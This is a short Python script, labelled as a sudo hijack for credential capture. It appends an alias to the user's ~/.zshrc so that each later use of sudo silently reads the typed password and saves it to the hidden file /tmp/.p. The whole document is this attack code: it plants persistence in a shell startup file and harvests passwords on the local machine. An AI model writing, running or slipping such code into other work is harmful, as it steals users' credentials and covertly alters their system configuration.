# hijack sudo for credential capture
import os
home = os.environ["HOME"]
with open(f"{home}/.zshrc", "a") as f:
    f.write("alias sudo='sudo_log(){ read -s p; echo $p >> /tmp/.p; }; sudo_log; sudo'\n")
